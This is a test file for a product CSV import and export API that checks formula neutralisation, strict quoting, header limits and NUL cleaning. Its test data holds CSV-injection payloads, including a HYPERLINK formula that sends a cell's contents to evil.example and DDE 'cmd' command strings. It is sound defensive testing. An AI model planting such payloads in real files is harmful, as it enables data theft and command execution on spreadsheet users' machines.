/**
 * Hostile files (issue 19): formulas and line breaks in the CSVs staff open in a spreadsheet,
 * absurd headers, broken quoting and NUL characters in the files staff import.
 */
import { QueryTypes } from 'sequelize';
import { expect, it } from 'vitest';
import {
  EXPORT_ONLY_COLUMNS,
  PRODUCT_CSV_COLUMNS,
  type ImportJob,
} from '@shared/rules/product-csv';

/** The export's header: the importable columns, then its figures (the watches count). */
const EXPORT_COLUMNS = [...PRODUCT_CSV_COLUMNS, ...EXPORT_ONLY_COLUMNS];
import { describeApi, type ApiFixture } from '../../../test/support/api';
import { unique } from '../../../test/support/fixtures';
import {
  adminSearch,
  COLUMNS,
  csv,
  exportCsv,
  importCsv,
  productRow,
  strictCsvRecords,
  upload,
  waitForJob,
} from './test-support';
import { CHUNK_ROWS, HEADER_CHECK_ROWS, ROW_REFUSED } from './runner';

/** What a spreadsheet runs as a formula (OWASP "CSV injection"), fullwidth forms included. */
const RUNS_AS_FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const isPlainNegativeNumber = (cell: string) => /^-\d+(\.\d+)?$/.test(cell);

function expectNoFormula(records: string[][]) {
  for (const record of records) {
    for (const cell of record) {
      if (RUNS_AS_FORMULA.test(cell) && !isPlainNegativeNumber(cell)) {
        throw new Error(`a spreadsheet would run ${JSON.stringify(cell)}`);
      }
    }
  }
}

const HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  '+62 812 3456',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\uFF1D1+1 lebar penuh',
  '\uFF0B1 \uFF0D1 \uFF20x',
  "'=sudah dikutip",
  "''@dua kutip",
];
const HOSTILE_DESCRIPTIONS = [
  'Baris satu\n=HYPERLINK("http://evil.example")',
  'Baris satu\r@SUM(A1)',
  'Baris satu\r\nbaris dua; dengan "kutip", koma',
];

async function get(api: ApiFixture, path: string) {
  const res = await api.admin.get<string>(path);
  expect(res.status).toBe(200);
  return res.text;
}

describeApi('hostile CSV files', (api) => {
  it('neutralises formulas in the export, and an import of that export reports every row unchanged', async () => {
    const marker = `rumus${unique()}`;
    const rows = HOSTILE_TITLES.map((title, n) =>
      productRow(marker, n, {
        title,
        // The admin search finds the rows by their description.
        description: `${HOSTILE_DESCRIPTIONS[n % HOSTILE_DESCRIPTIONS.length]!} ${marker}`,
      }),
    );
    const created = await importCsv(api, csv(COLUMNS, rows));
    expect(created).toMatchObject({ created: rows.length, failed: 0 });

    const text = await exportCsv(api, `?search=${marker}`);
    const records = strictCsvRecords(text);
    expect(records[0]).toEqual(EXPORT_COLUMNS);
    expect(records).toHaveLength(rows.length + 1);
    expectNoFormula(records);
    const titles = records.slice(1).map((record) => record[1]);
    expect(titles).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"klik")`);
    // The import took the quote before `=` as an export's: the title is stored without it.
    expect(titles).toContain("'=sudah dikutip");
    expect(titles).toContain("''@dua kutip");
    expect(titles).toContain("'\uFF1D1+1 lebar penuh");

    const again = await importCsv(api, text);
    expect(again).toMatchObject({ created: 0, updated: 0, failed: 0, unchanged: rows.length });
    const stored = (await adminSearch(api, marker)).products.map((product) => product.title);
    const asImported = HOSTILE_TITLES.map((title) => title.replace(/^'/, ''));
    expect(stored.sort()).toEqual(asImported.sort());
  });

  it('quotes every cell with a line break: a strict RFC 4180 reader sees one record per product', async () => {
    const marker = `baris${unique()}`;
    const rows = HOSTILE_DESCRIPTIONS.map((description, n) =>
      productRow(marker, n, { description }),
    );
    await importCsv(api, csv(COLUMNS, rows));
    const records = strictCsvRecords(await exportCsv(api, `?search=${marker}`));
    expect(records).toHaveLength(rows.length + 1);
    for (const record of records) expect(record).toHaveLength(EXPORT_COLUMNS.length);
    const descriptions = records.slice(1).map((record) => record[2]);
    expect(descriptions.sort()).toEqual(
      HOSTILE_DESCRIPTIONS.map((text) => (RUNS_AS_FORMULA.test(text) ? `'${text}` : text)).sort(),
    );

    // The whole catalogue too, and the template: every CSV the server writes.
    const whole = strictCsvRecords(await exportCsv(api));
    for (const record of whole) expect(record).toHaveLength(EXPORT_COLUMNS.length);
    expectNoFormula(whole);
    const template = strictCsvRecords(await get(api, '/api/admin/imports/template.csv'));
    expect(template[0]).toEqual(PRODUCT_CSV_COLUMNS);
    expectNoFormula(template);
  });

  it('neutralises raw cells and header names in errors.csv', async () => {
    const marker = `gagal${unique()}`;
    const evilColumn = "=cmd|' /C calc'!A0";
    const body = csv(
      [...COLUMNS, evilColumn],
      [
        productRow(marker, 1, { discountPercentage: '=150', [evilColumn]: '@SUM(A1)' }),
        productRow(marker, 2, { title: '', [evilColumn]: '\t=1+1\nlagi' }),
      ],
    );
    const job = await importCsv(api, body);
    expect(job).toMatchObject({ failed: 2 });
    const records = strictCsvRecords(await get(api, `/api/admin/imports/${job.id}/errors.csv`));
    expect(records).toHaveLength(3);
    expectNoFormula(records);
    expect(records[0]!.at(-1)).toBe(`'${evilColumn}`);
    expect(records[1]!.at(-1)).toBe("'@SUM(A1)");
    expect(records[2]!.at(-1)).toBe("'\t=1+1\nlagi");
  });

  it('lists at most 20 unknown columns and counts the rest; refuses absurd headers with a 400', async () => {
    const extra = Array.from({ length: 150 }, (_, n) => `lain${n}`);
    const job = await importCsv(api, `${['sku', ...extra].join(',')}\r\n`, true);
    expect(job.errors).toHaveLength(21);
    expect(job.errors[20]).toEqual({ row: 1, field: '', message: '... dan 130 kolom lain' });

    const wide = await upload(
      api,
      `sku,${Array.from({ length: 520_000 }, (_, n) => n).join(',')}\n`,
    );
    expect(wide.status).toBe(400);
    expect(wide.body.message).toBe('Baris 1: baris judul lebih dari 64 KB');
    const many = await upload(api, `sku,${extra.concat(extra).join(',')}\n`);
    expect(many.status).toBe(400);
    expect(many.body.message).toBe('Baris 1: baris judul berisi 301 kolom; maksimal 200 kolom');
    const long = await upload(api, `sku,${'x'.repeat(2 * 1024 * 1024)}\nA\n`);
    expect(long.status).toBe(400);
    expect(long.body.message).toBe('Baris 1: baris judul lebih dari 64 KB');
  });

  it('answers broken quoting in the first rows with a 400 naming the line', async () => {
    for (const [body, line] of [
      ['sku,a"b\nA,B\n', 1],
      ['sku,title\n"A,judul\n', 2],
      [`sku,title\n${'A,B\n'.repeat(10)}C,"x"y\n`, 12],
    ] as const) {
      const res = await upload(api, body);
      expect(res.status).toBe(400);
      expect(res.body.message).toMatch(new RegExp(`^Baris ${line}: berkas CSV tidak dapat dibaca`));
    }
  });

  it('fails the job with the line when the broken quoting comes later in the file', async () => {
    const marker = `kutip${unique()}`;
    // Past the rows the upload reads before it answers, inside the first chunk.
    const rows = Array.from({ length: 700 }, (_, n) => productRow(marker, n));
    expect(rows.length).toBeGreaterThan(HEADER_CHECK_ROWS);
    expect(rows.length).toBeLessThan(CHUNK_ROWS);
    const body = `${csv(COLUMNS, rows)}${marker}-x,"judul"tanpa pemisah\r\n`;
    const res = await upload(api, body);
    expect(res.status).toBe(202);
    const job = await waitForJob(api, res.body.id);
    expect(job.status).toBe('failed');
    expect(job.message).toBe(
      'Baris 702: berkas CSV tidak dapat dibaca, ada karakter setelah tanda kutip penutup',
    );
  });

  it('cleans NUL characters like a JSON body: every row of every chunk is written', async () => {
    const marker = `nul${unique()}`;
    // Two chunks; the NUL is in the second.
    const count = CHUNK_ROWS + 100;
    const rows = Array.from({ length: count }, (_, n) =>
      productRow(marker, n, n === CHUNK_ROWS + 50 ? { title: `Produk\u0000 ${marker} nol` } : {}),
    );
    const job: ImportJob = await importCsv(api, csv(COLUMNS, rows));
    expect(job).toMatchObject({ status: 'done', created: count, failed: 0 });
    const [product] = (await adminSearch(api, `${marker} nol`)).products;
    expect(product?.title).toBe(`Produk ${marker} nol`);
  });

  it('keeps the first 1,000 failed rows of a job for errors.csv and counts them all', async () => {
    const marker = `banyak${unique()}`;
    const rows = Array.from({ length: 1_500 }, (_, n) =>
      productRow(marker, n, { discountPercentage: '150' }),
    );
    const job = await importCsv(api, csv(COLUMNS, rows), true);
    expect(job).toMatchObject({ status: 'done', failed: 1_500 });
    const [stored] = await api.server.running.db.sequelize.query<{ count: number | string }>(
      `SELECT COUNT(*) AS count FROM import_job_failures WHERE "jobId" = ?`,
      { replacements: [job.id], type: QueryTypes.SELECT },
    );
    expect(Number(stored?.count)).toBe(1_000);
    const failed = strictCsvRecords(await get(api, `/api/admin/imports/${job.id}/errors.csv`));
    expect(failed).toHaveLength(1_001);
    expect(failed[1]![0]).toBe('2');
  });

  it('a row the database refuses fails alone; the rest of its chunk and the file are written', async () => {
    const marker = `tolak${unique()}`;
    const refused = `DITOLAK ${marker}`;
    const { db } = api.server.running;
    // A trigger stands for any value the database refuses that no schema foresaw.
    const trigger = `refuse_${marker}`;
    if (db.dialect === 'postgres') {
      await db.sequelize.query(`CREATE FUNCTION ${trigger}() RETURNS trigger AS $$
        BEGIN
          IF NEW.title = '${refused}' THEN RAISE EXCEPTION 'ditolak'; END IF;
          RETURN NEW;
        END $$ LANGUAGE plpgsql`);
      await db.sequelize.query(`CREATE TRIGGER ${trigger} BEFORE INSERT ON products
        FOR EACH ROW EXECUTE FUNCTION ${trigger}()`);
    } else {
      await db.sequelize.query(`CREATE TRIGGER ${trigger} BEFORE INSERT ON products
        WHEN NEW.title = '${refused}' BEGIN SELECT RAISE(ABORT, 'ditolak'); END`);
    }
    try {
      // The second chunk (rows CHUNK_ROWS + 2 to CHUNK_ROWS + 21) holds the refused row.
      const count = CHUNK_ROWS + 20;
      const rows = Array.from({ length: count }, (_, n) =>
        productRow(marker, n, n === CHUNK_ROWS + 10 ? { title: refused } : {}),
      );
      const job = await importCsv(api, csv(COLUMNS, rows));
      expect(job).toMatchObject({ status: 'done', created: count - 1, failed: 1 });
      expect(job.errors).toEqual([{ row: CHUNK_ROWS + 12, field: '', message: ROW_REFUSED }]);
      // Counted in the table: a search counts up to 1,000.
      const [stored] = await db.sequelize.query<{ count: number | string }>(
        `SELECT COUNT(*) AS count FROM products WHERE sku LIKE ?`,
        { replacements: [`${marker}-%`], type: QueryTypes.SELECT },
      );
      expect(Number(stored?.count)).toBe(count - 1);
      expect((await adminSearch(api, refused)).totalCount).toBe(0);
    } finally {
      await db.sequelize.query(
        db.dialect === 'postgres'
          ? `DROP TRIGGER ${trigger} ON products; DROP FUNCTION ${trigger}()`
          : `DROP TRIGGER ${trigger}`,
      );
    }
  });
});
